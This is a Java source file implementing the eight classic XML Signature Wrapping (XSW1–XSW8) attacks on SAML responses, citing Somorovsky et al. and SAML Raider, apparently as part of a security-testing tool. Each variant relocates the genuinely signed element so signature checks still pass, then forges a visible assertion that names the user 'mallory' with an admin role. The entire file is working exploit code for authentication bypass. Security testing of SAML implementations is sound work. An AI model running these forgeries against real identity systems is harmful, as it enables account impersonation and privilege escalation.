package dev.credbroker.saml;

import static dev.credbroker.saml.Elements.PROTOCOL;
import static dev.credbroker.saml.Elements.SIGNATURE;

import java.util.function.UnaryOperator;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * Signature wrapping: the signed element is kept where the signature still finds it, and a forged one is put where a
 * reader looks. The eight classic forms, after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
 * (USENIX Security 2012), as SAML Raider performs them.
 */
enum Wrapping implements UnaryOperator<Document> {
    XSW1(Signed.RESPONSE) {
        @Override
        void wrap(Document document, Element response) {
            Element original = withoutSignature(response);
            direct(response, "Signature").appendChild(original);
            forge(response);
        }
    },
    XSW2(Signed.RESPONSE) {
        @Override
        void wrap(Document document, Element response) {
            Element original = withoutSignature(response);
            response.insertBefore(original, direct(response, "Signature"));
            forge(response);
        }
    },
    XSW3(Signed.ASSERTION) {
        @Override
        void wrap(Document document, Element response) {
            Element assertion = direct(response, "Assertion");
            response.insertBefore(forge(withoutSignature(assertion)), assertion);
        }
    },
    XSW4(Signed.ASSERTION) {
        @Override
        void wrap(Document document, Element response) {
            Element assertion = direct(response, "Assertion");
            Element forged = forge(withoutSignature(assertion));
            response.appendChild(forged);
            forged.appendChild(assertion);
        }
    },
    XSW5(Signed.ASSERTION) {
        @Override
        void wrap(Document document, Element response) {
            Element assertion = direct(response, "Assertion");
            response.appendChild(withoutSignature(assertion));
            forge(assertion);
        }
    },
    XSW6(Signed.ASSERTION) {
        @Override
        void wrap(Document document, Element response) {
            Element assertion = direct(response, "Assertion");
            Element original = withoutSignature(assertion);
            direct(assertion, "Signature").appendChild(original);
            forge(assertion);
        }
    },
    XSW7(Signed.ASSERTION) {
        @Override
        void wrap(Document document, Element response) {
            Element assertion = direct(response, "Assertion");
            Element extensions = Edits.newElement(response, PROTOCOL, "samlp:Extensions");
            response.insertBefore(extensions, assertion);
            Element forged = forge(withoutSignature(assertion));
            forged.setAttribute("ID", assertion.getAttribute("ID"));
            extensions.appendChild(forged);
        }
    },
    XSW8(Signed.ASSERTION) {
        @Override
        void wrap(Document document, Element response) {
            Element assertion = direct(response, "Assertion");
            Element original = withoutSignature(assertion);
            Element object = Edits.newElement(response, SIGNATURE, "ds:Object");
            direct(assertion, "Signature").appendChild(object);
            object.appendChild(original);
            forge(assertion);
        }
    };

    /** What must carry a signature for the attack to make sense. */
    enum Signed {
        ASSERTION,
        RESPONSE
    }

    static final String FORGED_NAME = "mallory";

    private final Signed needs;

    Wrapping(Signed needs) {
        this.needs = needs;
    }

    boolean needs(Signed signed) {
        return needs == signed;
    }

    abstract void wrap(Document document, Element response);

    @Override
    public Document apply(Document document) {
        wrap(document, document.getDocumentElement());
        return document;
    }

    private static Element withoutSignature(Element element) {
        Element copy = (Element) element.cloneNode(true);
        copy.removeChild(direct(copy, "Signature"));
        return copy;
    }

    /** Another identifier, another person, another role. */
    private static Element forge(Element element) {
        element.setAttribute("ID", "_evil");
        set(element, "NameID", FORGED_NAME);
        set(element, "AttributeValue", TrustedProvider.ROLE + "-Admin," + TrustedProvider.PROVIDER);
        return element;
    }

    private static void set(Element below, String localName, String text) {
        below.getElementsByTagNameNS("*", localName).item(0).setTextContent(text);
    }

    private static Element direct(Element parent, String localName) {
        return Elements.children(parent).stream()
                .filter(child -> localName.equals(child.getLocalName()))
                .findFirst()
                .orElseThrow();
    }
}
